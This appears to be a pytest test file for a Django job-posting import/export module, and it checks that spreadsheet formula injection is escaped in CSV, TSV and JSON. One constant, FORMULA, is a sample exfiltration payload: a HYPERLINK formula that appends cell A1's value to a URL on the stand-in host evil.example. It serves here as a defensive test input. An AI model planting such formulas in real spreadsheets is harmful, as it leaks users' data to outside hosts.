"""Files that go out and come in: whole, and nothing that a spreadsheet would run."""

from __future__ import annotations

import json

import pytest
from django.core.exceptions import ValidationError

from enrichment.sheets import guarded, unguarded
from jobs.exchange import formats
from jobs.exchange.formats import Csv, Json, JsonLines, Tsv

HEADERS = ["title", "description"]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


def values(file: formats.PostingFile, data: str) -> list[dict[str, object]]:
    dataset = file.create_dataset(data.encode())
    return [dict(row.values) for (row,) in dataset]


class TestGuard:
    @pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n"])
    def test_no_cell_begins_a_formula(self, first: str) -> None:
        assert guarded(f"{first}1+1") == f"'{first}1+1"

    @pytest.mark.parametrize("text", ["Baker", "", "'t Hof", "1-2", " =1"])
    def test_other_texts_stay(self, text: str) -> None:
        assert guarded(text) == text

    @pytest.mark.parametrize(
        "text", ["=1", "'=1", "''-x", "'t", "'", "- we offer", "a"]
    )
    def test_what_went_out_comes_in_as_it_was(self, text: str) -> None:
        assert unguarded(guarded(text)) == text

    def test_numbers_are_no_texts(self) -> None:
        assert guarded(-5) == -5


class TestFiles:
    @pytest.mark.parametrize("file", [Csv(), Tsv(), Json()])
    def test_goes_out_and_comes_in(self, file: formats.PostingFile) -> None:
        rows = [["Baker\tand cook", '- Bread;\n- a "cake"'], ["'=1", FORMULA]]

        text = "".join(file.write(HEADERS, rows))

        assert values(file, text) == [dict(zip(HEADERS, r, strict=True)) for r in rows]

    def test_lists_are_one_cell_of_a_table_and_a_list_in_json(self) -> None:
        rows = [["Baker", ["bread", "=cake"]]]

        table = "".join(Csv().write(HEADERS, rows))
        (record,) = json.loads("".join(Json().write(HEADERS, rows)))

        assert table.endswith("Baker,bread; =cake\r\n")
        assert record["description"] == ["bread", "=cake"]

    def test_list_that_begins_a_formula_is_guarded(self) -> None:
        assert "'=cake" in "".join(Csv().write(HEADERS, [["Baker", ["=cake"]]]))

    def test_nothing_is_an_empty_list(self) -> None:
        assert json.loads("".join(Json().write(HEADERS, []))) == []

    def test_jsonl_comes_in_only(self) -> None:
        line = '{"title": "Baker", "description": "Bread"}'

        assert values(JsonLines(), line) == [{"title": "Baker", "description": "Bread"}]
        assert not JsonLines().can_export()

    def test_broken_file_is_told_with_its_place(self) -> None:
        with pytest.raises(
            ValidationError, match="The file:1: the header has no column"
        ):
            Csv().create_dataset(b"name,text\nBaker,Bread\n")

    def test_more_rows_than_a_request_carries_are_sent_to_the_command(
        self, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(formats, "MOST_ROWS", 2)

        with pytest.raises(ValidationError, match="import_jobs"):
            Csv().create_dataset(b"title,description\n" + b"Baker,Bread\n" * 3)
